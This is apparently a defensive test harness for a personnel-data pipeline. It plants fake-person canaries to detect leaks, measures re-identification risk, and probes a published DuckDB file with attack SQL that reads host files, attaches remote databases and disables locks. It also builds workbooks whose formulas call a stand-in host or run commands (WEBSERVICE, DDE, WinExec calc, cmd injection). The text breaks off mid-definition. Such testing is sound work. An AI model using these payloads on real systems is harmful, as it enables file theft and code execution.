"""`make attack`: looks for people in what is published or logged, counts who could be told from all others, asks the published file for other files,
and sends workbooks of everything that runs. `--write` puts the counts into docs/privacy.md; the suite does a short one (test_attack.py).

What does not belong here: what goes back in a workbook must be (active.py), and looking for inputs that break a reader (fuzz_readers.py).
"""

import argparse
import contextlib
import datetime as dt
import io
import os
import platform
import random
import re
import shutil
import sqlite3
import tempfile
import time
import zipfile
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import active
import clean
import duckdb
import odd_files
import openpyxl
import polars as pl
import psutil
from conftest import RATINGS_HEADER, City, pipeline, rating, tables, write_csv
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.packaging.custom import StringProperty
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.table import Table
from python_calamine import CalamineWorkbook
from test_docs import LOCKED
from test_leaving import OF_NOBODY
from test_returned import FAULT, ODD, edited, put, related, replaced, typed

from pipeline import recognised
from pipeline.paths import PROJECT, Home
from pipeline.returned import Job, give_back
from pipeline.sample import make_city
from pipeline.schemas import SCHEMAS
from pipeline.schemas.columns import own_columns

PAGE = PROJECT / "docs" / "privacy.md"


# ── canaries ─────────────────────────────────────────────────────────────────────────────────────────────────────


@dataclass
class Canaries:
    """Names, identity numbers and birth dates of nobody, of each kind one for a place; and what of them stands in a text."""

    places: list[str] = field(default_factory=list)

    def _at(self, place: str) -> int:
        if place not in self.places:
            self.places.append(place)
        return self.places.index(place)

    def name(self, place: str) -> str:
        n = self._at(place)
        return f"Hoàng Yến Canary{chr(97 + n // 26)}{chr(97 + n % 26)}q"

    def number(self, place: str, dotted: bool = False) -> str:
        digits = f"0928077{self._at(place):05}"
        return ".".join(digits[i : i + 3] for i in range(0, 12, 3)) if dotted else digits

    def day(self, place: str) -> str:
        return f"{dt.date(1917, 1, 1) + dt.timedelta(days=self._at(place)):%d/%m/%Y}"

    def all_of(self, place: str) -> str:
        return f"{self.name(place)} {self.number(place)} {self.day(place)}"

    SOUGHT = re.compile(
        rb"(?i)canary([a-z])([a-z])q|928077(\d{5})|92[. ]807[. ]7(\d\d)[. ](\d{3})|(1917-\d\d-\d\d)|(\d\d)[/.-](\d\d)[/.-]1917", re.ASCII
    )

    def in_text(self, text: bytes) -> set[str]:
        """Places whose canary stands there, whether in one byte a letter or in two.

        >>> Canaries(["a", "b"]).in_text("hoang yen CANARYABQ".encode("utf-16-le"))
        {'b'}
        """
        found = {
            self._place(hit)
            for part in ((text, text.replace(b"\0", b"")) if b"\0" in text else (text,))
            for hit in self.SOUGHT.finditer(part)
        }
        return found - {None}

    def _place(self, hit: re.Match[bytes]) -> str | None:
        first, second, digits, two, three, iso, day, month = (group and group.decode() for group in hit.groups())
        if first:
            n = (ord(first.lower()) - 97) * 26 + ord(second.lower()) - 97
        elif digits or two:
            n = int(digits or two + three)
        else:
            try:
                n = (dt.date.fromisoformat(iso or f"1917-{month}-{day}") - dt.date(1917, 1, 1)).days
            except ValueError:
                return None
        return self.places[n] if n < len(self.places) else None


FORMATS = {"xlsx": "2021", "csv": "2020", "ods": "2019", "xlsb": "2018", "xls": "2017"}  # each in a period of its own: one file per dataset


def plant(city: City, folder: Path, formats: Iterable[str] = tuple(FORMATS)) -> Canaries:
    """A canary in every place that a submission has, from Q01.001; a clean file from another unit."""
    canaries = Canaries()
    for kind in formats:
        for dataset in SCHEMAS:
            title, rows = SCHEMAS[dataset].title, _rows_of(dataset, kind, canaries)
            path = city.put(f"{FORMATS[kind]}/Q01.001/{title}.{kind}", _file(kind, title, rows, folder))
            assert path.stat().st_size
    workbook(city.put(f"2022/Q01.001/{canaries.name('a file name')}.xlsx", b""), canaries)
    for place, path in {
        "an unknown folder": "2021/{}/Xếp loại.csv",
        "an unknown period": "{}/Q01.001/Xếp loại.csv",
        "a folder below the unit's": "2023/Q01.001/{}/Xếp loại.csv",
        "a folder called like a file": "2023/Q01.001/{}.xlsx/Xếp loại.csv",
        "a file beside all folders": "{}.csv",
        "a file that is none of ours": "2023/Q01.001/{}.pdf",
        "a file that nobody can read": "2023/Q01.003/{}.xlsx",
    }.items():
        city.put(
            path.format(canaries.all_of(place).replace("/", "-")), [RATINGS_HEADER, rating(1)] if path.endswith("csv") else b"%PDF-1.7"
        )
    link = city.home.raw / "2023" / "Q01.001" / f"{canaries.name('a link')}.csv"
    link.symlink_to(city.home.raw / "2021")
    city.put("2021/Q01.002/Xếp loại.csv", [RATINGS_HEADER, *(rating(n) for n in range(60, 66))])
    write_csv(city.home.registry / "withdrawals.csv", [
        ["period", "unit_code", "dataset", "withdrawn_on", "reason"],
        ["2020", "Q01.002", "ratings", "10/12/2021", canaries.all_of("why something was withdrawn")],
    ])  # fmt: skip
    return canaries


def _rows_of(dataset: str, kind: str, canaries: Canaries) -> list[list[str | None]]:
    """Title, table and signature: a good row for each column and each thing to plant in it, spoiled in that column alone."""
    columns = own_columns(SCHEMAS[dataset])
    rows = clean.make_table(random.Random(f"{dataset} {kind}"), dataset, 4 * len(columns), set(columns)).rows
    written = [{c: clean.text_of(dataset, c, row.get(c)) for c in columns} | {"unit": None} for row in rows]
    for n, column in enumerate(columns):
        place = f"{kind}: {dataset}, column {column}"
        day = None if column in OF_NOBODY else canaries.day(place)  # in a decision's day any day is the decision's
        said = (canaries.name(place), canaries.number(place), canaries.number(place, dotted=True), day)
        for row, text in zip(written[4 * n :], said, strict=False):
            row[column] = text
        if column == "decision_no":
            written[4 * n][column] = f"12-QĐ/{canaries.name(place).replace(' ', '')}"
            written[4 * n + 3][column] = canaries.day(place).replace("/", ".")
    head = [columns[c].title for c in columns]
    return [
        [canaries.all_of(f"{kind}: {dataset}, title")], [None], [*head, canaries.all_of(f"{kind}: {dataset}, unknown header"), "Ghi chú"],
        *[[*row.values(), None, canaries.all_of(f"{kind}: {dataset}, note") if n == 1 else None] for n, row in enumerate(written)],
        [None], [canaries.all_of(f"{kind}: {dataset}, signature")],
    ]  # fmt: skip


def _file(kind: str, title: str, rows: list[list[str | None]], folder: Path) -> bytes | list:
    if kind == "csv":
        return rows
    if kind == "ods":
        cells = ("".join(odd_files.ods_cell(v or "") for v in row) for row in rows)
        return odd_files.ods("".join(f"<table:table-row>{row}</table:table-row>" for row in cells), name=title)
    if kind == "xlsb":
        return odd_files.xlsb({(r, c): v for r, row in enumerate(rows) for c, v in enumerate(row) if v}, name=title)
    made = odd_files.xlsx(lambda book: [book.get_worksheet_by_name(title) or book.add_worksheet(title)] and [
        book.get_worksheet_by_name(title).write_string(r, c, v) for r, row in enumerate(rows) for c, v in enumerate(row) if v
    ])  # fmt: skip
    return odd_files.converted(made, "xls", folder) if kind == "xls" else made


def workbook(target: Path, canaries: Canaries) -> None:
    """A canary in everything that a workbook has besides cells, and where a library may stumble over one."""
    where = lambda place: canaries.all_of(f"workbook: {place}")  # noqa: E731
    made = openpyxl.Workbook()
    sheet = made.active
    sheet.title = f"Xếp loại {canaries.name('workbook: sheet')}"[:31]
    for row in [RATINGS_HEADER, *(rating(n) for n in range(70, 80))]:
        sheet.append(row)
    sheet["E3"].value = "Tốt lắm"  # a fault: the workbook is opened, marked and given back
    sheet["G1"].value = "Ghi chú"
    for cell, sign in (("G2", 1), ("G3", -1)):  # no days
        sheet[cell].value, sheet[cell].number_format = sign * int(canaries.number(f"workbook: {cell}, no day")), "dd/mm/yyyy"
    sheet["G4"].comment = Comment(where("comment"), canaries.name("workbook: author of a comment"))
    sheet["G5"].hyperlink = f"http://{canaries.number('workbook: link')}.example/{canaries.name('workbook: link')}"
    sheet["G5"].hyperlink.tooltip = where("tip of a link")
    sheet["G6"].value = f'=HYPERLINK("http://{canaries.number("workbook: formula")}.example","{canaries.name("workbook: formula")}")'
    sheet.conditional_formatting.add("G2:G9", FormulaRule(formula=[f'G2="{where("colour rule")}"']))
    check = DataValidation(
        type="list", formula1=f'"{where("drop-down list")}"', prompt=where("prompt of a list"), error=where("error of a list")
    )
    check.add("G7")
    sheet.add_data_validation(check)
    made.defined_names["ma"] = DefinedName("ma", attr_text=f'"{where("defined name")}"', comment=where("comment of a name"))
    called = canaries.name("workbook: name of a name").replace(" ", "_")
    made.defined_names[called] = DefinedName(called, attr_text="1")
    sheet.oddHeader.center.text, sheet.oddFooter.left.text = f"&Z{where('header')}", where("footer")
    sheet.print_title_rows = "1:1"
    hidden = made.create_sheet(f"Ẩn {canaries.name('workbook: hidden sheet')}"[:31])
    hidden.sheet_state = "hidden"
    hidden.append([where("cell of a hidden sheet")])
    listed = made.create_sheet("Danh sách")
    listed.append([canaries.name("workbook: column of a table"), "b"])
    listed.append([where("cell of a table"), "1"])
    listed.add_table(Table(displayName=canaries.name("workbook: table").replace(" ", "_"), ref="A1:B2"))
    for name in ("title", "subject", "creator", "keywords", "description", "lastModifiedBy", "category"):
        setattr(made.properties, name, where(f"property {name}"))
    made.custom_doc_props.append(StringProperty(name=canaries.name("workbook: own property"), value=where("value of an own property")))
    made.save(target)
    drawing = '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"><xdr:pic><xdr:cNvPr id="1" name="{}" descr="{}"/></xdr:pic></xdr:wsDr>'
    extension = f'<extLst><ext uri="{{1}}" xmlns:q="urn:{canaries.number("workbook: extension")}"><q:x>{where("extension")}</q:x></ext></extLst></worksheet>'
    picture = f'<Relationship Id="rId99" Type="http://x.example/image" Target="../media/{canaries.number("workbook: picture")}.png"/></Relationships>'
    target.write_bytes(odd_files.changed(target.read_bytes(), {
        "xl/worksheets/sheet1.xml": lambda xml: xml.replace(b"</worksheet>", extension.encode()),
        "xl/worksheets/_rels/sheet1.xml.rels": lambda xml: xml.replace(b"</Relationships>", picture.encode()),
        f"xl/media/{canaries.number('workbook: picture')}.png": lambda _: b"no picture",
        "xl/drawings/drawing9.xml": lambda _: drawing.format(where("name of a picture"), where("words for a picture")).encode(),
        "customXml/item1.xml": lambda _: f"<a>{where('custom XML')}</a>".encode(),
        "xl/printerSettings/printerSettings1.bin": lambda _: where("printer").encode("utf-16-le"),
    }))  # fmt: skip


# ── where they are looked for ────────────────────────────────────────────────────────────────────────────────────


def texts(file: Path) -> Iterator[bytes]:
    """A file's own bytes, and what lies packed in it: parts, tables, rows."""
    data = file.read_bytes()
    yield data
    if zipfile.is_zipfile(file):
        with zipfile.ZipFile(file) as archive:
            yield "\n".join(archive.namelist()).encode()
            yield from (archive.read(name) for name in archive.namelist())
    elif data.startswith(b"SQLite format 3"):
        with sqlite3.connect(file) as db:
            for (table,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall():
                for row in db.execute(f'SELECT * FROM "{table}"'):
                    yield b"\n".join(v if isinstance(v, bytes) else str(v).encode("utf-8", "replace") for v in row if v is not None)
    elif data[8:12] == b"DUCK":
        yield from (frame.write_csv().encode() for frame in tables(Home(file), file).values())
    elif data.startswith(b"PAR1"):
        frame = pl.read_parquet(file)
        yield frame.select(c for c in frame.columns if frame.schema[c] not in (pl.List, pl.Struct)).write_csv().encode()


def found_below(canaries: Canaries, folder: Path, but: Callable[[Path], bool] = lambda file: False) -> dict[str, set[str]]:
    """Place → files below a folder, and their names, that hold what was planted there."""
    found: dict[str, set[str]] = {}
    for file in sorted(folder.rglob("*")):
        name = file.relative_to(folder).as_posix()
        if but(file):
            continue
        held = canaries.in_text(name.encode("utf-8", "replace"))
        if file.is_file() and not file.is_symlink():
            held = held.union(*map(canaries.in_text, texts(file)))
        for place in held:
            found.setdefault(place, set()).add(name)
    return found


@dataclass
class Leaks:
    """Of the canaries: how many places, what was looked through, and where one stood that must not."""

    places: int
    planted: set[str]  # found where they were put, by the same search
    looked_at: dict[str, int] = field(default_factory=dict)  # what → files or words
    leaks: list[str] = field(default_factory=list)

    def look(self, what: str, canaries: Canaries, folder: Path, but: Callable[[Path], bool] = lambda file: False) -> None:
        self.looked_at[what] = sum(file.is_file() and not but(file) for file in folder.rglob("*"))
        self.leaks += [f"{what}: {place}, in {min(where)}" for place, where in found_below(canaries, folder, but).items()]

    def read(self, what: str, canaries: Canaries, *said: str) -> None:
        self.looked_at[what] = sum(map(len, said))
        self.leaks += [f"{what}: {place}" for place in sorted(canaries.in_text("\n".join(said).encode("utf-8", "replace")))]


def let_canaries_out(folder: Path, formats: Iterable[str] = tuple(FORMATS), brief: bool = False) -> Leaks:
    """Plant, then do what a city does, and look for canaries everywhere but in the archive, the restricted zone and the sender's own answer."""
    city, outside = City(folder / "data"), {name: folder / name for name in ("temporary", "cache")}
    for place in outside.values():
        place.mkdir(exist_ok=True)
    home, canaries = city.home, plant(city, folder, formats)
    variables = {"TMPDIR": str(outside["temporary"]), "XDG_CACHE_HOME": str(outside["cache"])}

    def run(*command: str, first: str = "", fails: bool = False, **more: str) -> str:
        done = pipeline(home, *command, first=first, **variables, **more)
        assert bool(done.returncode) == fails, done.stdout + done.stderr
        return done.stdout + done.stderr

    said = [run("load", PYTHONWARNINGS="always")]
    first_answer = next((home.outbox / "2022" / "Q01.001").glob("*.xlsx"))
    leaks = Leaks(len(canaries.places), set(found_below(canaries, home.raw)))
    # the unit explains, the city confirms a header of the unit's own: everything is judged again, and each verdict is said to have changed
    explained(first_answer, canaries)
    shutil.copy(first_answer, next((home.raw / "2022" / "Q01.001").glob("*.xlsx")))
    write_csv(home.registry / "layouts.csv", [
        ["Mã đơn vị", "Bộ dữ liệu", "Tên cột của đơn vị", "Nghĩa là cột", "Ngày xác nhận"],
        ["Q01.001", "ratings", canaries.all_of("csv: ratings, unknown header"), "", "10/12/2021"],
    ])  # fmt: skip
    said.append(run("load", first=ALL_CHANGED + GONE))
    assert "verdict changed" in said[-1] and "the next load takes what is there then" in said[-1]
    said += (
        []
        if brief
        else [
            run("receipts"),
            run("verify"),
            run("backup", str(folder / "backup")),
            run("template", "--unit", "Q01.003", "--period", "2022"),
        ]
    )
    said += [] if brief else [lost_bytes(home, run)]
    leaks.places = len(canaries.places)
    leaks.planted |= set(found_below(canaries, home.raw))
    if not brief:
        checked = next((home.raw / "2022" / "Q01.001").glob("*.xlsx"))
        run("check", str(checked), "--period", "2022", "--unit", "Q01.001", fails=True)  # its answer is its owner's
    leaks.read("what commands say", canaries, *said)
    leaks.look("versions and exports", canaries, home.versions)
    leaks.look("Dagster's folder", canaries, home.dagster)
    own = {home.archive, home.restricted, home.versions, home.dagster}
    leaks.look("the rest of the warehouse", canaries, home.warehouse, lambda file: any(file.is_relative_to(folder) for folder in own))
    leaks.look("templates of another unit", canaries, home.templates)
    leaks.look("answers to other units", canaries, home.outbox, lambda file: "Q01.001" in file.parts or _is_unknown(file, home))
    for what, place in outside.items():
        leaks.look(f"{what} files after it all", canaries, place)
    return leaks


def _is_unknown(file: Path, home: Home) -> bool:
    """The answer to a folder that is no unit's, and the file that a unit of its own sent under a name."""
    parts = file.relative_to(home.outbox).parts
    return len(parts) > 1 and (parts[1] == "Q01.003" or not parts[1].startswith("Q01"))


def explained(answer: Path, canaries: Canaries) -> None:
    """The unit's reason, in the sheet that is ours."""
    book = openpyxl.load_workbook(answer)
    sheet = book["Giải trình"] if "Giải trình" in book.sheetnames else None
    if sheet:
        sheet["F5"].value = canaries.all_of("an explanation")
    book.save(answer)


ALL_CHANGED = """
import polars as pl
from pipeline import nightly
old = nightly._old_verdicts
nightly._old_verdicts = lambda home, contract: old(home, contract).with_columns(verdict_before=pl.lit("NONE"))
"""
# A file is there when it is found and not when it is archived; and one goes away while it is looked at.
GONE = """
from pipeline import gate, nightly
found, kept = gate.find, nightly.keep
def find(home):
    files, gone = found(home)
    return files, [*gone, *(one.path for one in files)]
gate.find = find
nightly.keep = lambda home, files: kept(home, files) | {content_hash for file, content_hash in files if "registry" not in str(file)}
import pathlib, os
(pathlib.Path(os.environ["PERSONNEL_HOME"]) / "raw" / "2021" / "Q01.002" / "Xếp loại.csv").write_text("x")
"""


def lost_bytes(home: Home, run: Callable[..., str]) -> str:
    """The archive lost everything, and has to read it again: what the load says of it. All is put back."""
    kept = home.root / "kept"
    kept.mkdir()
    away = [home.blobs, *(folder for folder in home.raw.iterdir() if folder != home.registry)]
    for place in away:
        place.rename(kept / place.name)
    shutil.rmtree(home.restricted / home.landing.resolve().name)
    city_file = home.raw / "2021" / "Q01.002" / "Kỷ luật.csv"
    city_file.parent.mkdir(parents=True)
    city_file.write_text("x\n", "utf-8")
    said = run("load", fails=True)
    for place in away:
        shutil.rmtree(place, ignore_errors=True)
        (kept / place.name).rename(place)
    assert "its archived file is missing" in said
    return said + run("load")


# ── who could be told from all others ────────────────────────────────────────────────────────────────────────────


def singled_out(home: Home) -> tuple[dict[str, recognised.Shares], float]:
    """Per published table the two figures of a load; and the share of all persons who stand alone with all that any table says of them, joined
    over the person and over the row that findings speak of."""
    with duckdb.connect() as db:
        db.execute(f"ATTACH '{home.published.resolve()}' AS published (READ_ONLY)")
        shares = recognised.shares(db, "published")
        parts = []
        for table in shares:
            columns = [c for c, *_ in db.execute(f"DESCRIBE published.{table}").fetchall()]
            said = ", ".join(c for c in columns if c not in recognised.OF_THE_ROW | {"person_key"})
            parts.append(f"SELECT person_key, hash('{table}', {said}) AS said FROM published.{table} WHERE person_key IS NOT NULL")
            if {"submission_key", "sheet_no", "row_no"} <= set(columns):
                parts.append(f"""SELECT person_key, hash('{table}', f.rule_code, f.column_name) FROM published.{table} AS t
                    JOIN published.quality.findings AS f ON f.submission_key = t.submission_key AND f.row_no = t.row_no
                        AND f.sheet_no IS NOT DISTINCT FROM t.sheet_no WHERE person_key IS NOT NULL""")
        alone, persons = db.execute(f"""
            WITH people AS (SELECT person_key, hash(count(*), sum(said), bit_xor(said)) AS said FROM ({" UNION ALL ".join(parts)}) GROUP BY 1),
            crowd AS (SELECT count(*) AS size FROM people GROUP BY said)
            SELECT sum(CASE WHEN size = 1 THEN 1 ELSE 0 END), sum(size) FROM crowd""").fetchone()
    return shares, alone / persons


# ── SQL on the published file ────────────────────────────────────────────────────────────────────────────────────

SECRET = "bi-mat-cua-may"
# Not asked: CALL enable_logging(storage = 'file', storage_config = {'path': …}), at which DuckDB 1.5 refuses to write and ends the asker's process.
SQL = """
SELECT * FROM read_text('{folder}/a.txt')
SELECT * FROM read_blob('{folder}/a.txt')
SELECT * FROM read_csv('{folder}/a.csv')
SELECT * FROM read_csv_auto('{folder}/a.csv')
SELECT * FROM sniff_csv('{folder}/a.csv')
SELECT * FROM read_json('{folder}/a.json')
SELECT * FROM read_json_objects('{folder}/a.json')
SELECT * FROM read_ndjson('{folder}/a.json')
SELECT * FROM read_parquet('{folder}/a.parquet')
SELECT * FROM parquet_scan('{folder}/a.parquet')
SELECT * FROM parquet_metadata('{folder}/a.parquet')
SELECT * FROM parquet_schema('{folder}/a.parquet')
SELECT * FROM parquet_kv_metadata('{folder}/a.parquet')
SELECT * FROM parquet_file_metadata('{folder}/a.parquet')
SELECT * FROM '{folder}/a.csv'
SELECT * FROM '{folder}/a.parquet'
SELECT * FROM "{folder}/a.csv"
SELECT * FROM '{folder}/a.json'
FROM glob('{folder}/*')
FROM glob('/*')
SELECT * FROM query('SELECT * FROM read_text(''{folder}/a.txt'')')
SELECT * FROM query_table('{folder}/a.csv')
SELECT getenv('HOME')
ATTACH '{folder}/a.duckdb' AS other
ATTACH '{folder}/a.duckdb' AS other (READ_ONLY)
ATTACH '{folder}/new.duckdb'
ATTACH 'https://example.org/x.duckdb' AS far
ATTACH '{folder}/a.sqlite' AS lite (TYPE sqlite)
ATTACH ':memory:' AS mine; CREATE TABLE mine.t AS SELECT * FROM read_text('{folder}/a.txt')
DETACH personnel
USE memory
CREATE TABLE t AS SELECT 1
CREATE TEMP TABLE t AS SELECT * FROM read_text('{folder}/a.txt')
CREATE VIEW v AS SELECT * FROM read_text('{folder}/a.txt')
CREATE MACRO m() AS TABLE SELECT * FROM read_text('{folder}/a.txt')
CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')
CREATE PERSISTENT SECRET s (TYPE http)
INSERT INTO core.dim_date SELECT * FROM core.dim_date
UPDATE core.dim_person SET sex_code = NULL
DELETE FROM core.dim_person
DROP TABLE core.dim_person
ALTER TABLE core.dim_person ADD COLUMN x INTEGER
COMMENT ON TABLE core.dim_person IS 'x'
VACUUM
CHECKPOINT
FORCE CHECKPOINT
COPY core.dim_person TO '{folder}/new.csv'
COPY core.dim_person TO '{folder}/new.parquet' (FORMAT parquet)
COPY (SELECT 1) TO '/dev/stdout'
COPY core.dim_person FROM '{folder}/a.csv'
COPY FROM DATABASE personnel TO memory
EXPORT DATABASE '{folder}/new'
IMPORT DATABASE '{folder}'
INSTALL httpfs
LOAD httpfs
FORCE INSTALL json
LOAD '{folder}/a.duckdb_extension'
INSTALL '{folder}/a.duckdb_extension'
SELECT * FROM read_csv('https://example.org/a.csv')
SELECT * FROM read_parquet('s3://a/b.parquet')
SET enable_external_access = true
RESET enable_external_access
SET GLOBAL enable_external_access = true
PRAGMA enable_external_access = true
SET lock_configuration = false
RESET lock_configuration
SET allowed_directories = ['/']
SET allowed_paths = ['{folder}/a.txt']
SET access_mode = 'READ_WRITE'
SET temp_directory = '{folder}/new'
SET home_directory = '{folder}'
SET secret_directory = '{folder}'
SET extension_directory = '{folder}'
SET custom_extension_repository = 'http://example.org'
SET allow_unsigned_extensions = true
SET autoinstall_known_extensions = true
SET log_query_path = '{folder}/new.log'
SET enable_logging = true
SET profiling_output = '{folder}/new.json'
SET file_search_path = '{folder}'
SET default_secret_storage = 'x'
SET python_enable_replacements = true
PRAGMA profiling_output = '{folder}/new.json'
CALL pragma_version()
EXPLAIN ANALYZE SELECT * FROM read_text('{folder}/a.txt')
PREPARE p AS SELECT * FROM read_text(?); EXECUTE p('{folder}/a.txt')
SELECT * FROM duckdb_secrets()
SELECT * FROM which_secret('{folder}/a.txt', 's3')
SELECT content FROM read_text(['{folder}/a.txt'])
SELECT (SELECT content FROM read_text('{folder}/a.txt'))
WITH x AS (SELECT * FROM read_blob('{folder}/*')) SELECT * FROM x
PIVOT read_text('{folder}/a.txt') ON filename USING count(*)
SUMMARIZE SELECT * FROM read_text('{folder}/a.txt')
DESCRIBE SELECT * FROM '{folder}/a.parquet'
SELECT json_execute_serialized_sql(json_serialize_sql('SELECT * FROM read_text(''{folder}/a.txt'')'))
FROM json_execute_serialized_sql(json_serialize_sql('SELECT * FROM read_text(''{folder}/a.txt'')'))
""".strip().splitlines()


@dataclass
class Asked:
    """How the published file took it."""

    tries: int = 0
    works_unlocked: int = 0  # of them bring or change something where the connection is not locked: the attack is none of paper
    leaks: list[str] = field(default_factory=list)


def ask_for_files(home: Home, folder: Path) -> Asked:
    """Every attack on the connection that docs/analysts.md recommends, and on a copy of the file without its locks."""
    asked, bait = Asked(), folder / "bait"
    _lay(bait)
    copy = folder / "copy" / "personnel.duckdb"
    copy.parent.mkdir()
    shutil.copy(home.published.resolve(), copy)
    published, before = home.published.resolve(), _lying(bait, home.published.resolve().parent)
    with duckdb.connect(str(published), read_only=True, config=LOCKED) as db:  # one session: what one attack opened would help the next
        for attack in SQL:
            asked.tries += 1
            if _brings(db, attack.format(folder=bait)):
                asked.leaks.append(f"read: {attack}")
            if _lying(bait, published.parent) != before:
                asked.leaks.append(f"written: {attack}")
                before = _lying(bait, published.parent)
    for attack in SQL:
        if re.search("http|s3:|INSTALL|LOAD", attack):
            continue  # nothing outside the machine is asked
        kept = _lying(bait, copy.parent)
        with duckdb.connect(str(copy), config={"autoinstall_known_extensions": False}) as db:
            asked.works_unlocked += _brings(db, attack.format(folder=bait)) or _lying(bait, copy.parent) != kept
    return asked


def _lay(bait: Path) -> None:
    """Files whose content shows in any answer."""
    bait.mkdir()
    for name, text in {
        "a.txt": SECRET,
        "a.csv": f"a,b\n{SECRET},1\n",
        "a.json": f'{{"a": "{SECRET}"}}',
        "a.duckdb_extension": SECRET,
    }.items():
        (bait / name).write_text(text)
    (bait / "schema.sql").write_text(f"CREATE TEMP TABLE t AS SELECT '{SECRET}' AS a")
    (bait / "load.sql").write_text("")
    pl.DataFrame({SECRET: [SECRET]}).write_parquet(bait / "a.parquet")
    with duckdb.connect(str(bait / "a.duckdb")) as db:
        db.execute(f"CREATE TABLE t AS SELECT '{SECRET}' AS a")
    with sqlite3.connect(bait / "a.sqlite") as db:
        db.execute("CREATE TABLE t (a)")


def _brings(db: duckdb.DuckDBPyConnection, attack: str) -> bool:
    """Whether something of the machine comes back: a bait's content or name, or what stands in a database that came beside."""
    try:
        said = str(db.execute(attack).fetchall())
        for name, table in db.execute(
            "SELECT database_name, table_name FROM duckdb_tables() WHERE database_name <> 'personnel'"
        ).fetchall():
            said += str(db.execute(f'SELECT * FROM "{name}"."{table}"').fetchall())
    except (duckdb.Error, OSError, UnicodeDecodeError):
        return False
    finally:
        with contextlib.suppress(duckdb.Error):
            db.execute("USE personnel")
    return SECRET in said or "/bait/" in said or "/etc" in said


def _lying(*folders: Path) -> dict[str, tuple[int, int]]:
    return {str(f): (f.stat().st_size, f.stat().st_mtime_ns) for folder in folders for f in folder.rglob("*") if f.is_file()}


# ── active content ───────────────────────────────────────────────────────────────────────────────────────────────

MAIN, OFFICE = (active.MAIN[1:-1], active.LINK[1:-1])
OUTSIDE = "http://la.example/x"
Parts = dict[str, bytes]
SHEET, BOOK, TYPES = "xl/worksheets/sheet1.xml", "xl/workbook.xml", "[Content_Types].xml"


def _in_sheet(text: str) -> Callable[[Parts], None]:
    return replaced(SHEET, "</worksheet>", f"{text}</worksheet>")


def _in_book(text: str) -> Callable[[Parts], None]:
    return replaced(BOOK, "</workbook>", f"{text}</workbook>")


def _part(name: str, text: str, kind: str, source: str = SHEET, content_type: str = "", outside: str = "") -> Callable[[Parts], None]:
    """A part, what it is, and a relation to it; where it leads outside, a relation of its own."""

    def edit(parts: Parts) -> None:
        put(name, text)(parts)
        typed(name, content_type or f"application/vnd.openxmlformats-officedocument.spreadsheetml.{kind}+xml")(parts)
        folder = source.rpartition("/")[0]
        related(source, kind if kind.startswith("http") else f"{OFFICE}/{kind}", os.path.relpath(name, folder))(parts)
        if outside:
            related(name, f"{OFFICE}/{outside}", OUTSIDE, external=True)(parts)

    return edit


def _all(*edits: Callable[[Parts], None]) -> Callable[[Parts], None]:
    def edit(parts: Parts) -> None:
        for one in edits:
            one(parts)

    return edit


def _link(target: str) -> Callable[[Parts], None]:
    return _all(
        related(SHEET, f"{OFFICE}/hyperlink", target, external=True),
        replaced(SHEET, "<pageMargins", f'<hyperlinks><hyperlink xmlns:r="{OFFICE}" ref="A4" r:id="rOut"/></hyperlinks><pageMargins'),
    )


def _called(text: str) -> Callable[[Parts], None]:
    """A formula of a cell that had none."""
    return replaced(SHEET, "<v>86</v>", f"<f>{text}</f><v>86</v>")


def _in_utf16(name: str) -> Callable[[Parts], None]:
    return lambda parts: parts.update({name: parts[name].decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")})


DRAWING = "http://schemas.openxmlformats.org/drawingml/2006"
PICTURE = (
    f'<xdr:wsDr xmlns:xdr="{DRAWING}/spreadsheetDrawing" xmlns:a="{DRAWING}/main" xmlns:r="{OFFICE}"><xdr:twoCellAnchor><xdr:pic><xdr:nvPicPr>'
    f'<xdr:cNvPr id="2" name="a"><a:hlinkClick r:id="rOut"/></xdr:cNvPr></xdr:nvPicPr><xdr:blipFill><a:blip r:link="rOut"/></xdr:blipFill></xdr:pic>'
    "</xdr:twoCellAnchor></xdr:wsDr>"
)
SHAPE = (
    '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel">'
    f'<v:shape id="s" href="{OUTSIDE}"><v:imagedata src="{OUTSIDE}"/><x:ClientData ObjectType="Button"><x:FmlaMacro>[0]!chay</x:FmlaMacro>'
    "</x:ClientData></v:shape></xml>"
)
X14 = 'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"'
MORE: dict[str, Callable[[Parts], None]] = {
    **{f"a link to {target}": _link(target) for target in (
        "file:///etc/hostname", "\\\\la.example\\chia-se\\x", "smb://la.example/x", "javascript:alert(1)", "ms-excel:ofe|u|http://la.example/x", "mailto:a@la.example",
    )},
    **{f"the formula {text[:24]}": _called(text) for text in (
        f'WEBSERVICE("{OUTSIDE}")', f'HYPERLINK("{OUTSIDE}")', f'_xlfn.IMAGE("{OUTSIDE}")', f'FILTERXML(_xlfn.WEBSERVICE("{OUTSIDE}"),"//a")',
        'RTD("la.example",,"x")', 'CALL("kernel32","WinExec","JC","calc")', 'REGISTER.ID("a","b")', 'SQL.REQUEST("la.example")',
        'CUBEVALUE("la.example")', "W&#69;BSERVICE(&quot;http://la.example&quot;)", "'[la.example.xlsx]S'!A1", "DDE(\"la.example\",\"x\",\"y\")",
        '_xll.LAEXAMPLE(1)', 'INDIRECT("[la.example.xlsx]S!A1")', 'CELL("filename")', '_xlfn._xlws.PY(0,0)', "+cmd|' /c la.example'!A0",
        '_xlfn.STOCKHISTORY("la.example")', '_xlfn.LAMBDA(_xlpm.x,WEBSERVICE(_xlpm.x))("http://la.example")',
    )},
    "a shared formula": replaced(SHEET, "<v>86</v>", f'<f t="shared" ref="C4:C5" si="0">WEBSERVICE("{OUTSIDE}")</f><v>86</v>'),
    "a picture that lies elsewhere": _all(
        _part("xl/drawings/drawing1.xml", PICTURE, "drawing", content_type="application/vnd.openxmlformats-officedocument.drawing+xml", outside="image"),
        _in_sheet(f'<drawing xmlns:r="{OFFICE}" r:id="rOut"/>'),
    ),
    "a shape that is clicked": _all(
